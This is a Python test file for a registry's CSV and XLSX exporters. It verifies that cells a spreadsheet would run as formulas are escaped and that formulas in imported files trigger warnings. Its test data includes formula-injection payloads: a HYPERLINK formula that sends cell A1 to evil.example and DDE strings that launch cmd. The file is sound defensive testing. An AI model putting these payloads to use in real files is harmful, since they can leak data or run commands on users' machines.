"""Exports never hand a spreadsheet a formula, and read back to the exact text; a formula
in a foreign file is read as text, with a warning naming file:line and column."""

from __future__ import annotations

import csv
import io
import zipfile

from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.orm import Session

from registry.exporters.export import export_list
from registry.formulas import escape, foreign_formula, runs_as_formula, unescape
from registry.importers.csv_generic import plan_csv_import
from registry.importers.tabular import read_table
from tests.exporters.test_export import _define_ethnic_groups
from tests.factories import d, publish

HOSTILE = {
    "01": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")",
    "02": "+cmd|' /C calc'!A0",
    "03": "-Kinh",  # a name that begins with '-'
    "04": "@SUM(1+1)*cmd|' /C calc'!A0",
    "05": "'=1+1",  # a quote that is really there, before a formula
    "06": "''-x",
    "07": "'s-Hertogenbosch",  # a quote before ordinary text stays as it is
    "08": "-5",  # a number: harmless, and never escaped
    "09": "=",
}
OTHER_NAMES = {"01": ["=1+1", "Kinh"], "02": ["-x"], "03": ["@a", "b"]}


def _publish_hostile(session: Session) -> None:
    _define_ethnic_groups(session)
    publish(session, [{"op": "create", "list": "test-groups", "code": code, "name": name,
                       "type": "Nhóm", "short_name": name, "name_en": name,
                       **({"attributes": {"other_names": OTHER_NAMES[code]}}
                          if code in OTHER_NAMES else {})}
                      for code, name in HOSTILE.items()])


CASES = [*HOSTILE.values(), "", "'", "''", "-", "+84 912 345 678", "-1.5e3", "+", "=-",
         "\t=1", "\r=1", "Phường Hồ Gươm", "'-5", "''"]


def test_the_escape_is_exact_and_leaves_nothing_to_run() -> None:
    for value in CASES:
        written = escape(value)
        assert unescape(written) == value, value
        assert not foreign_formula(written), value
    assert escape("-5") == "-5" and escape("-Kinh") == "'-Kinh"
    assert escape("'=1+1") == "''=1+1" and escape("'s-Hertogenbosch") == "'s-Hertogenbosch"


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r5.eaĐ "), max_size=8) | st.text(max_size=12))
def test_any_text_survives_the_escape(value: str) -> None:
    written = escape(value)
    assert unescape(written) == value
    assert not runs_as_formula(written) or written.startswith("'")


def test_a_csv_export_escapes_every_cell_that_would_run(session: Session) -> None:
    _publish_hostile(session)
    data = export_list(session, "test-groups", "csv", d("2025-01-01")).data
    rows = {row[0]: row for row in csv.reader(io.StringIO(data.decode("utf-8")))}
    for code, name in HOSTILE.items():
        cell = rows[code][1]
        assert cell == escape(name)
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or cell == "-5", cell
    assert rows["01"][1] == "'" + HOSTILE["01"] and rows["05"][1] == "''=1+1"
    assert rows["07"][1] == "'s-Hertogenbosch" and rows["08"][1] == "-5"
    assert (rows["02"][10], rows["03"][10]) == ("'-x", "'@a; b")  # attribute cells too


def test_an_xlsx_export_holds_text_and_no_formula(session: Session) -> None:
    from openpyxl import load_workbook

    _publish_hostile(session)
    data = export_list(session, "test-groups", "xlsx", d("2025-01-01")).data
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
        assert row[1].value == escape(HOSTILE[row[0].value])


def test_our_exports_import_back_to_the_exact_text_without_warnings(session: Session) -> None:
    _publish_hostile(session)
    for fmt in ("csv", "xlsx"):
        data = export_list(session, "test-groups", fmt, d("2025-01-01")).data
        table = read_table(data, f"groups.{fmt}")
        assert table.warnings == []
        by_code = {str(row.cells[0]): row.cells for row in table.rows}
        assert {code: by_code[code][1] for code in HOSTILE} == HOSTILE, fmt
        again = plan_csv_import(session, "test-groups", table, d("2025-01-01"))
        assert (again.operations, again.bad) == ([], []), fmt
        assert not [n for n in again.notes if n.startswith("warning")]


def test_a_formula_in_a_foreign_file_is_read_as_text_with_a_warning(session: Session) -> None:
    from openpyxl import Workbook

    _define_ethnic_groups(session)
    text = ("code,name,type,other_names\n"
            "01,=1+2,Nhóm,\n"
            "02,Tày,Nhóm,@cmd\n"
            "03,-4,Nhóm,'=quoted by whoever wrote it\n")
    plan = plan_csv_import(session, "test-groups", read_table(text.encode(), "g.csv"),
                           d("2025-01-01"))
    warnings = [n for n in plan.notes if n.startswith("warning")]
    assert warnings == [
        "warning: g.csv:2: column 'name' holds '=1+2', which a spreadsheet would run as a "
        "formula; it is read as text",
        "warning: g.csv:3: column 'other_names' holds '@cmd', which a spreadsheet would run "
        "as a formula; it is read as text"]
    names = {op["code"]: op["name"] for op in plan.operations}
    assert names == {"01": "=1+2", "02": "Tày", "03": "-4"}
    assert plan.operations[2]["attributes"]["other_names"] == ["=quoted by whoever wrote it"]
    book = Workbook()
    sheet = book.active
    sheet.append(["code", "name", "type"])
    sheet.append(["01", "+Nhóm", "Nhóm"])
    buffer = io.BytesIO()
    book.save(buffer)
    table = read_table(buffer.getvalue(), "g.xlsx")
    assert table.warnings == ["warning: g.xlsx:2: column 'name' holds '+Nhóm', which a "
                              "spreadsheet would run as a formula; it is read as text"]
